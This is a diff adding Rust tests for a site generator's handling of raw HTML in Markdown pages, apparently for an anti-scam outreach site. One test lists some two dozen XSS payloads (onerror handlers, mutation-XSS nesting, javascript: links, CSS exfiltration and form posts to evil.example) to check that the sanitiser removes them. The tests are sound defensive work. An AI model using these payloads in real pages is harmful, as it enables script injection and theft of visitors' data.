@@ -316,6 +316,174 @@ fn hostile_words_stay_words() {
     }
 }
 
+/// A page with this text, built; its `main` without what the theme puts around the text.
+fn page_of(campaign: &Campaign, text: &str) -> (Html, String) {
+    campaign.write("content/pages/html.md", format!("---\ntitle: 网页\nreviewed: 2026-11-01\n---\n\n{text}\n"));
+    let out = campaign.run(&["build", "--only", "site"]);
+    assert!(out.status.success(), "{}", common::stderr(&out));
+    let page = Html::parse_document(&campaign.read("dist/pages/html.html"));
+    assert!(page.errors.is_empty(), "{text}: {:?}", page.errors);
+    (page, common::stderr(&out))
+}
+
+#[test]
+fn html_in_markdown_is_shown_where_it_is_only_text() {
+    let campaign = Campaign::init();
+    campaign.write("content/images/photo.jpg", photo());
+    let text = "<kbd>音量</kbd>键<br>一起按<sup>1</sup>，H<sub>2</sub>O。\n\n\
+        <details open>\n<summary>更多：<ruby>诈<rt>zhà</rt></ruby></summary>\n\n**粗体**和[链接](../scams/fake-refund.md)\n\n\
+        ### 小标题\n\n| 甲 | 乙 |\n|:-:|---|\n| 1 | <b>2</b> |\n\n![现场](../images/photo.jpg)\n\n</details>\n\n\
+        <p title=\"提示\">见<a href=\"../scams/fake-refund.md\">此页</a>和<a href='https://www.mps.gov.cn/'>公安部</a></p>";
+    let (page, said) = page_of(&campaign, text);
+    assert!(!said.contains("outreach::html"), "{said}");
+    for (selector, count) in [
+        ("main kbd", 1),
+        ("main sup", 1),
+        ("main ruby rt", 1),
+        ("main details[open] > summary", 1),
+        ("main details h3[id='小标题']", 1),
+        ("main details .table td b", 1),
+        ("main details td.center", 1),
+        ("main details figure picture img[width]", 1),
+        ("main details a[href='../scams/fake-refund.html']:not([rel])", 1),
+        ("main p[title='提示'] a[href='../scams/fake-refund.html']", 1),
+        ("main p a[href='https://www.mps.gov.cn/'][rel='noopener external']", 1),
+    ] {
+        assert_eq!(page.select(&select(selector)).count(), count, "{selector}: {}", page.html());
+    }
+    assert!(campaign.read("dist/search-data.js").contains("见此页和公安部"), "words in HTML are searched");
+    let html = page.html();
+    assert!(!html.contains("#&quot;") && !html.contains("<bdi title"), "marks of the cleaner are seen: {html}");
+}
+
+#[test]
+fn html_is_left_out_or_shown_as_it_is_where_that_is_asked_for() {
+    let campaign = Campaign::init();
+    let text = "a <b class=\"x\">粗</b>\n\n<div id=\"mine\">块</div>";
+    let (page, said) = page_of(&campaign, text);
+    assert_eq!(page.select(&select("main b, main div[id]")).count(), 1);
+    assert!(said.contains("`class` of `<b>` is not shown on the site"), "{said}");
+    assert!(said.contains("content/pages/html.md:8:1") && said.contains("`id` of `<div>`"), "{said}");
+    campaign.replace("book.toml", "search = true", "search = true\nraw-html = \"allow\"");
+    let (page, said) = page_of(&campaign, text);
+    assert_eq!(page.select(&select("main b.x, main div#mine")).count(), 2);
+    assert!(!said.contains("outreach::html"), "{said}");
+    campaign.replace("book.toml", "\"allow\"", "\"leave-out\"");
+    let (page, said) = page_of(&campaign, text);
+    let words: String = page.select(&select("main p")).flat_map(|m| m.text()).collect();
+    assert_eq!(page.select(&select("main b, main #mine")).count(), 0);
+    assert!(words.contains("a 粗") && said.contains("HTML is left out of the site"), "{words} {said}");
+    assert!(!campaign.read("dist/search-data.js").contains('块'));
+    campaign.replace("book.toml", "\"leave-out\"", "\"maybe\"");
+    assert!(campaign.build_fails().contains("raw-html"));
+}
+
+#[test]
+fn paper_says_that_it_has_no_html() {
+    let campaign = Campaign::init();
+    campaign.replace("content/letters/parents.md", "\n如果已经转账", "\n<p>只在网上</p>\n\n如果已经转账");
+    let said = campaign.check();
+    assert!(said.contains("HTML is left out of the entry's letters"), "{said}");
+    // What is written in HTML is checked like everything else.
+    campaign.write(
+        "content/pages/html.md",
+        "---\ntitle: 网页\n---\n\n<div>\n<p title=\"找13900139000\">电话<b>138</b>00138000</p>\n</div>\n",
+    );
+    let said = campaign.build_fails();
+    assert!(said.contains("13800138000") || said.contains("<b>138</b>00138000"), "{said}");
+    assert!(said.contains("13900139000"), "{said}");
+}
+
+#[test]
+fn hostile_html_does_nothing() {
+    let attacks = [
+        "<script>alert(1)</script>",
+        "前<script>alert(1)</script>后",
+        "<img src=x onerror=alert(1)>",
+        "<b onmouseover=\"alert(1)\" style=\"position:fixed\" id=\"main\" class=\"skip\">x</b>",
+        "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+        "<link rel=stylesheet href=https://evil.example/a.css>",
+        "<!-- nobody closes this <img src=x onerror=alert(1)>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<template><script>alert(1)</script></template>",
+        "<a href=\"javascript:alert(1)\">x</a><a href=\"java&#10;script:alert(1)\">y</a><a href=\"&#106;avascript:alert(1)\">z</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"//evil.example/\">y</a><a href=\"\\\\evil.example\">z</a>",
+        "<a href=\"https://evil.example/\" target=_blank rel=opener ping=https://evil.example/>x</a>",
+        "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
+        "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
+        "<div><div><div></main></body><header>x",
+        "<bdi title=\"#0123456789abcdef-0\"></bdi>",
+        "<p title='",
+    ];
+    let campaign = Campaign::init();
+    campaign.replace("book.toml", "[organization]", "[organization]\nsites = [\"evil.example\"]");
+    campaign.write(
+        "themes/default/site/page.html",
+        "{% extends \"base.html\" %}{% block main %}<h1>网页</h1><article>{{ body_html | safe }}</article>{% endblock main %}",
+    );
+    let allowed: HashSet<&str> = outreach::content::raw_html::TAGS.into_iter().collect();
+    for (number, attack) in attacks.iter().enumerate() {
+        campaign.write(
+            &format!("content/pages/attack-{number}.md"),
+            format!("---\ntitle: 网页\n---\n\n{attack}\n\n这一段**还在**。\n\n> 引用\n>\n> {attack}\n\n## 标题\n\n最后一段。\n"),
+        );
+    }
+    let out = campaign.run(&["build", "--only", "site"]);
+    assert!(out.status.success(), "{}", common::stderr(&out));
+    let said = common::stderr(&out);
+    for what in
+        ["`<script>`", "`<img>`", "`onmouseover` of `<b>`", "`<svg>`", "`<base>`", "the link to `javascript:alert(1)`"]
+    {
+        assert!(said.contains(&format!("{what} is not shown on the site")), "{what}: {said}");
+    }
+    assert!(said.contains("the comment is never closed"), "{said}");
+    // What is around the text is as on a page without any.
+    campaign.write("content/pages/plain.md", "---\ntitle: 网页\n---\n\n这一段**还在**。\n");
+    assert!(campaign.run(&["build", "--only", "site"]).status.success());
+    let around = |page: &Html| page.select(&select("body *")).count() - page.select(&select("main *")).count();
+    let plain = Html::parse_document(&campaign.read("dist/pages/plain.html"));
+    for (number, attack) in attacks.iter().enumerate() {
+        let page = Html::parse_document(&campaign.read(&format!("dist/pages/attack-{number}.html")));
+        assert!(page.errors.is_empty(), "{attack}: {:?}", page.errors);
+        assert_eq!(around(&page), around(&plain), "{attack}");
+        if attack.starts_with("<!--") {
+            assert_eq!(page.select(&select("main article *")).count(), 0, "{attack}");
+            continue;
+        }
+        assert_eq!(page.select(&select("head *")).count(), plain.select(&select("head *")).count(), "{attack}");
+        let text: String = page.select(&select("main article")).flat_map(|m| m.text()).collect();
+        assert!(text.contains("还在") && text.contains("最后一段"), "{attack}: {text}");
+        let mut seen = 0;
+        for element in page.select(&select("main article *")) {
+            let (name, value) = (element.value().name(), element.value());
+            assert!(allowed.contains(name), "{attack}: <{name}>");
+            seen += 1;
+            for (attribute, value) in value.attrs() {
+                assert!(
+                    !attribute.starts_with("on") && !["style", "target", "ping"].contains(&attribute),
+                    "{attack}: {attribute}"
+                );
+                assert!(attribute != "class", "{attack}: {value}");
+                assert!(attribute != "id" || value == "标题", "{attack}: {value}");
+                if attribute == "href" {
+                    assert_eq!(value, "https://evil.example/", "{attack}");
+                    assert_eq!(element.value().attr("rel"), Some("noopener external"));
+                }
+            }
+        }
+        assert!(seen > 3, "{attack}");
+    }
+}
+
 #[test]
 fn pages_say_what_chats_show() {
     for (path, picture) in [
